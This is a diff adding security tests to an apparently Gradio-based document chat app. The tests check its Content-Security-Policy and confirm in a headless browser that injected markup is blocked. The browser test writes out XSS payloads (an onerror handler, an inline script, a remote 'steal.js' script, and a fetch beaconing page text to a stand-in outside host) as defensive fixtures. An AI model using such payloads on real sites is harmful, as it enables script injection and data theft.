@@ -9,13 +9,18 @@ server) with the fake embedder, so these run in seconds.
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
+import re
 import time
 from pathlib import Path
 from typing import Any
 
 import gradio as gr
 import httpx
+import pytest
+from servers import thread_uvicorn
 from test_redteam import one_sentence
 from test_redteam4 import Limited, _page_event, _served
 from test_redteam9 import _page
@@ -98,3 +103,91 @@ def test_a_page_session_keeps_no_copy_of_the_documents_list(tmp_path: Path) -> N
         kind, outputs = _page(chat, "remove", ["herd-survey-0007.txt"], session="lister")
         assert kind == "complete" and "herd-survey-0007.txt" not in json.dumps(outputs[2])
         assert not (chat.docs / "herd-survey-0007.txt").exists()
+
+
+# ---------------------------------------------------------------- what the page may run
+
+
+def test_the_pages_policy_names_its_scripts_and_lets_it_reach_no_other_address(
+    plain: Limited,
+) -> None:
+    # Left by red team 9: the page's Content-Security-Policy limited images, media, frames
+    # and plugins only: markup that slipped into the page could run any inline script or
+    # event handler, load a script from any site, and send whatever the page shows (every
+    # document's name, the answers) to any address. Now everything comes from this server,
+    # what the page's scripts fetch goes to it alone, and of inline scripts only the page's
+    # own run, each named by its hash.
+    reply = httpx.get(f"{plain.url}/", timeout=30)
+    parts = reply.headers["content-security-policy"].split(";")
+    policy = dict(part.strip().partition(" ")[::2] for part in parts)
+    assert policy["default-src"] == "'self'" and policy["connect-src"] == "'self'", policy
+    assert policy["script-src"].startswith("'self' 'unsafe-eval' 'sha256-"), policy
+    assert "'unsafe-inline'" not in policy["script-src"] and "*" not in policy["script-src"]
+    inline = re.findall(r"<script\b(?![^>]*\bsrc=)[^>]*>(.*?)</script>", reply.text, re.S)
+    assert len(inline) >= 3  # Gradio's configuration, its API's description, its start-up
+    for script in inline:
+        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+        assert f"'sha256-{digest}'" in policy["script-src"], script[:80]
+    # A file served by Gradio's file route is what its type says, never sniffed as a page.
+    assert reply.headers["x-content-type-options"] == "nosniff"
+
+
+class _Outside:
+    """Another site: an ASGI app that records each request it is sent (and lets any page
+    read its answers, so only the page's own policy can stop a request)."""
+
+    def __init__(self) -> None:
+        self.seen: list[str] = []
+
+    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
+        if scope["type"] != "http":
+            return
+        self.seen.append(scope["path"])
+        headers = [(b"access-control-allow-origin", b"*"), (b"content-type", b"text/javascript")]
+        await send({"type": "http.response.start", "status": 200, "headers": headers})
+        await send({"type": "http.response.body", "body": b"window.__loaded = 1;"})
+
+
+def test_markup_that_slipped_into_the_page_runs_nothing_and_sends_nothing_away(
+    plain: Limited,
+) -> None:
+    # The same, in a real browser: markup placed in the page as a document's text would be
+    # if escaping ever failed, an inline script, an event handler, a script from another
+    # address, and a fetch sending the page's text there. Before, the other address was
+    # sent the script's request and the fetch, and the script ran.
+    chromium = Path("/usr/bin/chromium")
+    if not chromium.exists():
+        pytest.skip("Chromium is not installed at /usr/bin/chromium")
+    sync_api = pytest.importorskip("playwright.sync_api")
+    outside = _Outside()
+    with thread_uvicorn(outside) as port, sync_api.sync_playwright() as p:
+        browser = p.chromium.launch(
+            executable_path=str(chromium), args=["--headless", "--no-sandbox", "--disable-gpu"]
+        )
+        try:
+            page = browser.new_page()
+            page.set_default_timeout(60_000)
+            page.goto(plain.url)
+            sync_api.expect(page.locator("#documents")).to_contain_text("a.txt")
+            fetched = page.evaluate(
+                """(other) => {
+                const slipped = document.createElement('div');
+                slipped.innerHTML = '<img src="data:," onerror="window.__handler = 1">';
+                document.body.append(slipped);
+                const inline = document.createElement('script');
+                inline.textContent = 'window.__inline = 1';
+                document.head.append(inline);
+                const remote = document.createElement('script');
+                remote.src = other + '/steal.js';
+                document.head.append(remote);
+                const page = encodeURIComponent(document.body.innerText.slice(0, 200));
+                return fetch(other + '/beacon?page=' + page).then(() => 'sent', () => 'refused');
+            }""",
+                f"http://127.0.0.1:{port}",
+            )
+            page.wait_for_timeout(1000)
+            ran = page.evaluate("[window.__handler, window.__inline, window.__loaded]")
+        finally:
+            browser.close()
+    assert fetched == "refused" and outside.seen == [], outside.seen
+    assert ran == [None, None, None], ran
